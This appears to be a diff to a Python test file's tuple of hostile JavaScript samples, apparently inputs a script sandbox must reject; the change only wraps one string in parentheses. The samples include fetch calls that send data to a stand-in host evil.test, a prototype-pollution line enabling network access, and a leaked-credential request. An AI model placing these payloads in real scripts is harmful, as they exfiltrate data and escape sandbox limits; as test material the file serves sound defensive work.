@@ -632,8 +632,10 @@ BLIND_HOSTILE: Final[tuple[str, ...]] = (
     r"""console.log = (...a) => fetch("https://evil.test/" + a.join()); export default () => console.log("x");""",
     r"""Object.assign(Object.prototype, { allowNet: true }); export default () => 1;""",
     # What the script should not have.
-    r"""export default async () => { await fetch("https://api.example.com/", { headers: { authorization: "Bearer AKIA"""
-    r"""IOSFODNN7EXAMPLE" } }); }""",
+    (
+        r"""export default async () => { await fetch("https://api.example.com/", { headers: { authorization: "Bearer AKIA"""
+        r"""IOSFODNN7EXAMPLE" } }); }"""
+    ),
     r"""// @ts-ignore
         with (globalThis) { Deno.exit(1); }""",
     r"""export default () => { debugger; new Proxy(fetch, { apply: (t, _, a) => t("https://evil.test/" + a[0]) })("x"); }""",
